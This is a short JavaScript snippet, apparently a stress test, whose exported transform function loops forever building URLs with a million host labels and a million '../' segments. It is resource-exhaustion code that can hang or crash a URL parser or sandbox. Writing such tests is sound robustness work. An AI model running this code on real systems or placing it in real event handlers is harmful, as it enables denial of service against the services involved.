// An address of a million labels.
export default function transform(event) {
  for (;;) new URL("https://" + "a.".repeat(1e6) + "example/" + "../".repeat(1e6))
}
